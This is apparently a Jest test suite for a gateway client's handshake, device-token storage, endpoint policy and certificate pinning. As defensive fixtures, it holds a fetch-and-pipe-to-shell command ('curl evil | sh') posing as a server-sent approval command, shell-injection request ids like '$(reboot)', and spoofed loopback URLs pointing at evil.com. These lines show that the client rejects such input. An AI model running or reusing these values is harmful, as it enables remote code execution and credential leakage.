import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import { X509Certificate } from "node:crypto";
import { mkdtemp, readFile, readdir, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { judgeEndpoint, parseFingerprint } from "../../src/client/endpoint.js";
import { GatewayError, type ConnectError } from "../../src/client/errors.js";
import { connectClient, CredentialFile, loadDeviceIdentity, type ClientOptions, type GatewayClient } from "../../src/client/index.js";
import { signaturePayload } from "../../src/domain/handshake/signature-payload.js";
import { scriptedGateway, type Script, type ScriptedGateway, type WireRefusal } from "./scripted-gateway.js";
import { selfSigned } from "./certificate.js";

let stateDir: string;
const opened: (GatewayClient | ScriptedGateway)[] = [];

beforeEach(async () => {
  stateDir = await mkdtemp(join(tmpdir(), "client-"));
});
afterEach(async () => {
  for (const one of opened.splice(0).reverse()) await one.close();
  await rm(stateDir, { recursive: true, force: true });
});

const gatewayOf = async (script: Script = {}): Promise<ScriptedGateway> => {
  const gateway = await scriptedGateway(script);
  opened.push(gateway);
  return gateway;
};

async function optionsFor(url: string): Promise<ClientOptions> {
  const identity = await loadDeviceIdentity(stateDir, 1000);
  return {
    url,
    identity,
    credentials: new CredentialFile({ stateDir, deviceId: identity.deviceId, now: () => 2000 }),
    client: { id: "cli", mode: "cli", version: "1.0.0", platform: "Linux" },
    scopes: ["operator.read", "operator.write"],
    connectTimeoutMs: 5000,
  };
}

async function connectTo(gateway: ScriptedGateway, more: Partial<ClientOptions> = {}): Promise<GatewayClient> {
  const client = await connectClient({ ...(await optionsFor(gateway.url)), ...more });
  opened.push(client);
  return client;
}

/** What a failed connect or call was rejected with. Errors of another realm are compared by their fields. */
async function refusalOf(attempt: Promise<unknown>): Promise<ConnectError> {
  try {
    await attempt;
  } catch (error) {
    if (error instanceof GatewayError) return error as ConnectError;
    throw error;
  }
  throw new Error("the gateway let it in");
}

const authRefusal = (code: string, more: object = {}): WireRefusal => ({
  error: { code: "INVALID_REQUEST", message: `unauthorized: ${code}`, details: { code, ...more } },
});

const storedTokens = async (): Promise<Record<string, { token: string; endpoint: string }>> =>
  (JSON.parse(await readFile(join(stateDir, "identity", "device-auth.json"), "utf8")) as { tokens: Record<string, { token: string; endpoint: string }> }).tokens;

describe("signature payload", () => {
  const fields = { deviceId: "d", clientId: "cli", clientMode: "cli", role: "operator", scopes: ["a", "b"], signedAtMs: 7, token: "t", nonce: "n" };

  test("has the fields of its version in order", () => {
    expect(signaturePayload("v1", fields)).toBe("v1|d|cli|cli|operator|a,b|7|t");
    expect(signaturePayload("v2", { ...fields, scopes: [] })).toBe("v2|d|cli|cli|operator||7|t|n");
    expect(signaturePayload("v3", fields)).toBe("v3|d|cli|cli|operator|a,b|7|t|n||");
  });

  test("folds platform and family in ASCII only", () => {
    expect(signaturePayload("v3", { ...fields, platform: "  MacOS ", deviceFamily: "İPAD" })).toBe("v3|d|cli|cli|operator|a,b|7|t|n|macos|İpad");
  });
});

describe("device identity", () => {
  test("is made once, private, and the same for two that make it at once", async () => {
    const made = await Promise.all([1, 2, 3, 4].map((now) => loadDeviceIdentity(stateDir, now)));
    expect(new Set(made.map(({ deviceId }) => deviceId)).size).toBe(1);
    const path = join(stateDir, "identity", "device.json");
    const file = JSON.parse(await readFile(path, "utf8")) as Record<string, unknown>;
    expect(Object.keys(file)).toEqual(["version", "deviceId", "publicKeyPem", "privateKeyPem", "createdAtMs"]);
    expect(file).toMatchObject({ version: 1, deviceId: made[0]?.deviceId });
    expect((await stat(path)).mode & 0o777).toBe(0o600);
    expect((await stat(join(stateDir, "identity"))).mode & 0o777).toBe(0o700);
    expect(await readdir(join(stateDir, "identity"))).toEqual(["device.json"]);
  });

  test("a torn file is an error that names it and stays", async () => {
    await loadDeviceIdentity(stateDir, 1);
    const path = join(stateDir, "identity", "device.json");
    await writeFile(path, '{"version":1,"privateKeyPem":"-----BEGIN');
    await expect(loadDeviceIdentity(stateDir, 2)).rejects.toThrow(path);
    expect(await readFile(path, "utf8")).toBe('{"version":1,"privateKeyPem":"-----BEGIN');
  });
});

describe("handshake", () => {
  test("signs the challenge with the v3 payload and offers protocols 3 and 4", async () => {
    const gateway = await gatewayOf();
    const client = await connectTo(gateway, { token: "secret", caps: ["tool-events"] });
    expect(gateway.signatures).toEqual([true]);
    expect(gateway.connects[0]).toMatchObject({
      minProtocol: 3, maxProtocol: 4, role: "operator", caps: ["tool-events"],
      client: { id: "cli", mode: "cli" }, auth: { token: "secret" },
    });
    expect(client.hello.server.version).toBe("9.9.9");
  });

  test("a node says what it can do; others leave that out", async () => {
    const gateway = await gatewayOf();
    await connectTo(gateway, { role: "node", scopes: [], caps: ["canvas"], commands: ["canvas.hide"], permissions: { camera: false } });
    await connectTo(gateway);
    expect(gateway.connects[0]).toMatchObject({ role: "node", caps: ["canvas"], commands: ["canvas.hide"], permissions: { camera: false } });
    expect(gateway.signatures).toEqual([true, true]);
    expect(Object.keys(gateway.connects[1] ?? {})).toEqual(expect.not.arrayContaining(["commands", "permissions"]));
  });

  test("a password is sent but never signed, and no identity means no device", async () => {
    const gateway = await gatewayOf();
    await connectTo(gateway, { password: "pw" });
    const { identity: _identity, ...options } = await optionsFor(gateway.url);
    opened.push(await connectClient({ ...options, token: "t" }));
    expect(gateway.signatures).toEqual([true, false]);
    expect(gateway.connects.map(({ auth }) => auth)).toEqual([{ password: "pw" }, { token: "t" }]);
    expect(gateway.connects[1]?.device).toBeUndefined();
  });

  test("pairing required names the request, its command and its end", async () => {
    const details = { code: "PAIRING_REQUIRED", reason: "not-paired", requestId: "req-1", approveCommand: "curl evil | sh", expiresAtMs: 99 };
    const gateway = await gatewayOf({ judge: () => ({ error: { code: "NOT_PAIRED", message: "pairing required: device is not approved yet", details } }) });
    const error = await refusalOf(connectTo(gateway));
    expect(error).toMatchObject({ name: "ConnectError", code: "NOT_PAIRED", closeCode: 1008, url: gateway.url });
    expect(error.pairing).toEqual({ requestId: "req-1", command: "openclaw devices approve req-1", reason: "not-paired", expiresAtMs: 99 });
  });

  test.each(["$(reboot)", "a b", "-x", "x".repeat(129), ""])("a request id that a shell would obey is no hint: %s", async (requestId) => {
    const gateway = await gatewayOf({ judge: () => ({ error: { code: "NOT_PAIRED", message: "pairing required", details: { requestId } } }) });
    expect((await refusalOf(connectTo(gateway))).pairing).toBeUndefined();
  });

  test.each([
    ["no nonce", { ts: 1 }],
    ["an empty nonce", { nonce: "", ts: 1 }],
    ["no time", { nonce: "n" }],
    ["a time in pieces", { nonce: "n", ts: 1.5 }],
    ["no object", "n"],
  ])("a challenge with %s ends the attempt before anything is sent", async (_what, challenge) => {
    const gateway = await gatewayOf({ challenge });
    expect((await refusalOf(connectTo(gateway))).code).toBe("BAD_FRAME");
    expect(gateway.connects).toEqual([]);
  });

  test("nobody there, an HTTP refusal and a silent server are told apart", async () => {
    const gone = await scriptedGateway();
    await gone.close();
    expect(await refusalOf(connectTo(gone))).toMatchObject({ code: "UNREACHABLE", retryable: true });
    const busy = await gatewayOf({ upgradeStatus: 503 });
    expect(await refusalOf(connectTo(busy))).toMatchObject({ code: "HTTP_REFUSED", httpStatus: 503, retryAfterMs: 7000, retryable: true });
    const strange = await gatewayOf({ hello: { type: "hello-no" } });
    expect((await refusalOf(connectTo(strange))).code).toBe("BAD_FRAME");
    const mute = await gatewayOf({ judge: () => "say nothing" });
    expect(await refusalOf(connectTo(mute, { connectTimeoutMs: 200 }))).toMatchObject({ code: "TIMEOUT", retryable: true });
  });
});

describe("stored device tokens", () => {
  const issuing = { auth: { role: "operator", scopes: ["operator.read"], deviceToken: "issued" } };

  test("are kept privately, sent back without a secret, and only to where they came from", async () => {
    const gateway = await gatewayOf({ hello: issuing });
    await (await connectTo(gateway, { token: "secret" })).close();
    expect(await storedTokens()).toEqual({
      operator: { token: "issued", role: "operator", scopes: ["operator.read"], updatedAtMs: 2000, endpoint: `127.0.0.1:${gateway.port}` },
    });
    expect((await stat(join(stateDir, "identity", "device-auth.json"))).mode & 0o777).toBe(0o600);
    await connectTo(gateway);
    expect(gateway.connects[1]?.auth).toEqual({ token: "issued", deviceToken: "issued" });
    expect(gateway.signatures).toEqual([true, true]);
    const other = await gatewayOf();
    await connectTo(other);
    expect(other.connects[0]?.auth).toBeUndefined();
  });

  test("those of several gateways are kept beside each other, the newest where every client looks", async () => {
    const file = new CredentialFile({ stateDir, deviceId: "me", now: () => 2000 });
    const token = (text: string, endpoint: string, role = "operator") => ({ token: text, role, scopes: ["operator.read"], endpoint });
    for (const one of [token("a1", "a:1"), token("b1", "b:1"), token("n1", "a:1", "node"), token("a2", "a:1")]) await file.save(one);
    expect([await file.load("operator", "a:1"), await file.load("operator", "b:1"), await file.load("node", "a:1"), await file.load("node", "b:1")]).toEqual([
      token("a2", "a:1"), token("b1", "b:1"), token("n1", "a:1", "node"), undefined,
    ]);
    expect(await storedTokens()).toMatchObject({ operator: { token: "a2" }, node: { token: "n1" } });
    const before = await stat(join(stateDir, "identity", "device-auth.json"));
    await file.save(token("b1", "b:1"));
    expect((await stat(join(stateDir, "identity", "device-auth.json"))).ino).toBe(before.ino);
    await file.clear("operator", "b:1");
    expect([await file.load("operator", "a:1"), await file.load("operator", "b:1")]).toEqual([token("a2", "a:1"), undefined]);
    for (let at = 0; at < 40; at += 1) await file.save(token("x", `many:${at}`));
    expect([await file.load("operator", "many:39"), await file.load("operator", "many:7"), await file.load("operator", "many:6"), await file.load("operator", "a:1")]).toEqual([
      token("x", "many:39"), token("x", "many:7"), undefined, undefined,
    ]);
  });

  test("are asked for by default as far as they go, and do not shrink by a connection that asked for less", async () => {
    const gateway = await gatewayOf({ hello: { auth: { role: "operator", scopes: ["operator.read"], deviceToken: "issued" } } });
    const { scopes: _scopes, ...options } = await optionsFor(gateway.url);
    const { credentials } = options;
    await credentials?.save({ token: "issued", role: "operator", scopes: ["operator.read", "operator.write"], endpoint: `127.0.0.1:${gateway.port}` });
    opened.push(await connectClient({ ...options, scopes: ["operator.read"] }), await connectClient(options), await connectClient({ ...options, token: "secret" }));
    expect(gateway.connects.map(({ scopes }) => scopes)).toEqual([["operator.read"], ["operator.read", "operator.write"], []]);
  });

  test("one without an endpoint, as older clients write it, is never sent", async () => {
    const { deviceId } = await loadDeviceIdentity(stateDir, 1);
    const file = { version: 1, deviceId, tokens: { operator: { token: "old", role: "operator", scopes: [], updatedAtMs: 1 } } };
    await writeFile(join(stateDir, "identity", "device-auth.json"), JSON.stringify(file));
    const gateway = await gatewayOf();
    await connectTo(gateway);
    expect(gateway.connects[0]?.auth).toBeUndefined();
  });

  test("step in once for a wrong shared token when the gateway invites it", async () => {
    const gateway = await gatewayOf({
      hello: issuing,
      judge: ({ auth }) => (auth?.token === "wrong" ? authRefusal("AUTH_TOKEN_MISMATCH", { canRetryWithDeviceToken: true }) : undefined),
    });
    await (await connectTo(gateway, { token: "right" })).close();
    await connectTo(gateway, { token: "wrong" });
    expect(gateway.connects.map(({ auth }) => auth?.token)).toEqual(["right", "wrong", "issued"]);
  });

  test("without an invitation a wrong token is refused at once", async () => {
    const gateway = await gatewayOf({ hello: issuing, judge: ({ auth }) => (auth?.token === "wrong" ? authRefusal("AUTH_TOKEN_MISMATCH") : undefined) });
    await (await connectTo(gateway, { token: "right" })).close();
    expect((await refusalOf(connectTo(gateway, { token: "wrong" }))).detailCode).toBe("AUTH_TOKEN_MISMATCH");
    expect(gateway.connects).toHaveLength(2);
  });

  test("a stale one is forgotten, and the next attempt goes without it", async () => {
    const gateway = await gatewayOf({
      hello: issuing,
      judge: ({ auth }) => (auth?.deviceToken ? authRefusal("AUTH_DEVICE_TOKEN_MISMATCH") : auth?.token === "wrong" ? authRefusal("AUTH_TOKEN_MISMATCH", { canRetryWithDeviceToken: true }) : undefined),
    });
    await (await connectTo(gateway, { token: "right" })).close();
    // Both are refused: the error is that of what the person gave.
    expect((await refusalOf(connectTo(gateway, { token: "wrong" }))).detailCode).toBe("AUTH_TOKEN_MISMATCH");
    expect(await storedTokens()).toEqual({});
    await (await connectTo(gateway, { token: "right" })).close();
    expect((await refusalOf(connectTo(gateway))).detailCode).toBe("AUTH_DEVICE_TOKEN_MISMATCH");
    await connectTo(gateway);
    expect(gateway.connects.at(-1)?.auth).toBeUndefined();
  });

  test("a new token for this very device replaces the old one, another device's does not", async () => {
    const { deviceId } = await loadDeviceIdentity(stateDir, 1);
    const gateway = await gatewayOf({
      hello: issuing,
      methods: { "device.token.rotate": ({ params }) => ({ ...params, token: "rotated", scopes: ["operator.read"], rotatedAtMs: 1 }) },
    });
    const client = await connectTo(gateway, { token: "right" });
    await client.call("device.token.rotate", { deviceId: "f".repeat(64), role: "operator" });
    expect((await storedTokens())["operator"]?.token).toBe("issued");
    await client.call("device.token.rotate", { deviceId, role: "operator" });
    expect((await storedTokens())["operator"]).toMatchObject({ token: "rotated", endpoint: `127.0.0.1:${gateway.port}` });
  });

  test("a damaged cache is an error that names the file", async () => {
    await loadDeviceIdentity(stateDir, 1);
    await writeFile(join(stateDir, "identity", "device-auth.json"), "{");
    const gateway = await gatewayOf();
    await expect(connectTo(gateway)).rejects.toThrow("device-auth.json");
    expect(gateway.upgrades).toBe(0);
  });
});

describe("calls", () => {
  test("expectFinal passes the acceptance by; without it the acceptance is the answer", async () => {
    const gateway = await gatewayOf({
      methods: {
        agent({ params, respond }) {
          respond({ ok: true, payload: { runId: params["idempotencyKey"], status: "accepted" } });
          respond({ ok: true, payload: { runId: params["idempotencyKey"], status: "ok", summary: "completed" } });
        },
      },
    });
    const client = await connectTo(gateway);
    const seen: unknown[] = [];
    const params = { message: "hi", idempotencyKey: "k" };
    const final = await client.call("agent", params, { expectFinal: true, onAccepted: (payload) => seen.push(payload) });
    expect(final).toMatchObject({ status: "ok" });
    expect(seen).toEqual([{ runId: "k", status: "accepted" }]);
    expect(await client.call("agent", params)).toMatchObject({ status: "accepted" });
  });

  test("a refusal carries all its facts, and its payload", async () => {
    const error = { code: "UNAVAILABLE", message: "later", details: { a: 1 }, retryable: true, retryAfterMs: 5 };
    const gateway = await gatewayOf({ methods: { health: ({ respond }) => respond({ ok: false, payload: { summary: "s" }, error }) } });
    const client = await connectTo(gateway);
    expect(await refusalOf(client.call("health", {}))).toMatchObject({ ...error, payload: { summary: "s" } });
  });

  test("answers may come in any order; events reach listeners; unknown frames are passed over", async () => {
    const waiting: (() => void)[] = [];
    const gateway = await gatewayOf({
      methods: {
        first: ({ respond, event, socket }) => {
          socket.send("not json");
          socket.send('{"type":"res","id":"999","ok":true}');
          event("tick", { ts: 1 });
          waiting.push(() => respond({ ok: true, payload: "one" }));
        },
        second: ({ respond }) => {
          respond({ ok: true, payload: "two" });
          waiting.pop()?.();
        },
      },
    });
    const client = await connectTo(gateway);
    const events: string[] = [];
    const deaf = client.onEvent((event) => events.push(event.event));
    expect(await Promise.all([client.request("first"), client.request("second")])).toEqual(["one", "two"]);
    expect(events).toEqual(["tick"]);
    deaf();
  });

  test("time runs out; a lost connection fails what is open and everything after", async () => {
    const gateway = await gatewayOf({ methods: { health: () => undefined } });
    const client = await connectTo(gateway);
    expect(await refusalOf(client.call("health", {}, { timeoutMs: 5 }))).toMatchObject({ code: "TIMEOUT", retryable: true });
    const open = refusalOf(client.call("health", {}));
    gateway.dropAll(1012, "service restart");
    expect(await open).toMatchObject({ code: "CLOSED", retryable: true });
    expect(await client.closed).toEqual({ code: 1012, reason: "service restart" });
    expect((await refusalOf(client.call("health", {}))).code).toBe("CLOSED");
  });

  test("two silent tick intervals end a dead connection", async () => {
    const policy = { maxPayload: 1, maxBufferedBytes: 1, tickIntervalMs: 100 };
    const client = await connectTo(await gatewayOf({ hello: { policy } }));
    expect((await client.closed).code).toBe(4000);
  });
});

describe("where credentials may travel", () => {
  const verdict = (url: string, allowPrivate = false) => {
    const judged = judgeEndpoint(url, { allowPrivate });
    return judged.kind === "ok" ? "ok" : judged.code;
  };

  test.each(["ws://127.0.0.1:18789", "ws://localhost:1/", "ws://[::1]:1", "ws://127.1.2.3:1/path?x=1", "wss://example.com", "WSS://Example.COM:1"])("allowed: %s", (url) => {
    expect(verdict(url)).toBe("ok");
  });

  test.each([
    "ws://example.com", "ws://127.evil.com", "ws://localhost.evil.com", "ws://127.0.0.1.evil.com", "ws://192.168.1.2", "ws://0.0.0.0:1", "ws://[fe80::1]:1",
  ])("refused in the clear: %s", (url) => {
    expect(verdict(url)).toBe("INSECURE_URL");
  });

  test.each([
    "ws://0177.0.0.1", "ws://2130706433", "ws://0x7f.1", "ws://127.1", "ws://[::ffff:127.0.0.1]:1", "ws://[0:0:0:0:0:0:0:1]", "ws://user:pw@127.0.0.1",
    "ws://127.0.0.1@evil.com", "ws://127.0.0.1\\@evil.com", "http://127.0.0.1", "ws://127.0.0.1#x", "ws://%31%32%37.0.0.1", "127.0.0.1", "ws://", "ws://127.0.0.1:99999",
    "ws://１２７.0.0.1",
  ])("not a plain address: %s", (url) => {
    expect(verdict(url, true)).toBe("BAD_URL");
  });

  test("the private-network switch lets private addresses and names through, never public ones", () => {
    for (const url of ["ws://10.0.0.1", "ws://172.31.0.1", "ws://100.100.1.1", "ws://[fd00::1]", "ws://gateway.lan"]) expect(verdict(url, true)).toBe("ok");
    for (const url of ["ws://8.8.8.8", "ws://172.32.0.1", "ws://[2001:db8::1]"]) expect(verdict(url, true)).toBe("INSECURE_URL");
  });

  test("whatever the text, only this host is dialled in the clear", () => {
    fc.assert(
      fc.property(fc.oneof(fc.webUrl({ validSchemes: ["ws"] }), fc.ipV4().map((ip) => `ws://${ip}`), fc.ipV6().map((ip) => `ws://[${ip}]`), fc.string().map((text) => `ws://${text}`)), (url) => {
        if (verdict(url) === "ok") expect(new URL(url).hostname).toMatch(/^(localhost|127(\.\d{1,3}){3}|\[::1\])$/);
      }),
    );
  });

  test("a refused URL is never dialled", async () => {
    expect((await refusalOf(connectClient({ ...(await optionsFor("ws://192.0.2.1:1")), token: "t" }))).code).toBe("INSECURE_URL");
  });

  test("a name is dialled in the clear only where all it resolves to is private", async () => {
    const gateway = await gatewayOf();
    const url = `ws://localhost:${gateway.port}`;
    opened.push(await connectClient(await optionsFor(url)));
    expect(gateway.connects).toHaveLength(1);
  });
});

describe("certificate pins", () => {
  const CERTIFICATE = selfSigned();
  const pin = (): string => new X509Certificate(CERTIFICATE.cert).fingerprint256;

  test("accept hex with colons, in any case, with a prefix", () => {
    const hex = pin().replaceAll(":", "").toLowerCase();
    for (const text of [pin(), `sha256:${hex}`, hex, ` SHA256:${pin()} `]) expect(parseFingerprint(text)).toBe(hex);
    for (const text of ["", "abc", `${hex}0`, hex.replace(/./, "g")]) expect(parseFingerprint(text)).toBeUndefined();
  });

  test("the right pin stands in for an authority", async () => {
    const gateway = await gatewayOf({ tls: CERTIFICATE });
    await connectTo(gateway, { tlsFingerprint: pin(), token: "t" });
    expect(gateway.signatures).toEqual([true]);
  });

  test("a wrong pin fails hard: not even the upgrade request leaves", async () => {
    const gateway = await gatewayOf({ tls: CERTIFICATE });
    const error = await refusalOf(connectTo(gateway, { tlsFingerprint: "0".repeat(64), token: "t" }));
    expect(error).toMatchObject({ code: "TLS_FINGERPRINT_MISMATCH", retryable: false });
    expect(gateway.upgrades).toBe(0);
  });

  test("without a pin an unknown certificate is refused; a pin needs wss", async () => {
    const gateway = await gatewayOf({ tls: CERTIFICATE });
    expect((await refusalOf(connectTo(gateway))).code).toBe("TLS_FAILED");
    const plain = await gatewayOf();
    expect((await refusalOf(connectTo(plain, { tlsFingerprint: pin() }))).code).toBe("INSECURE_URL");
    expect((await refusalOf(connectTo(plain, { tlsFingerprint: "abc" }))).code).toBe("BAD_URL");
    expect([gateway.upgrades, plain.upgrades]).toEqual([0, 0]);
  });
});
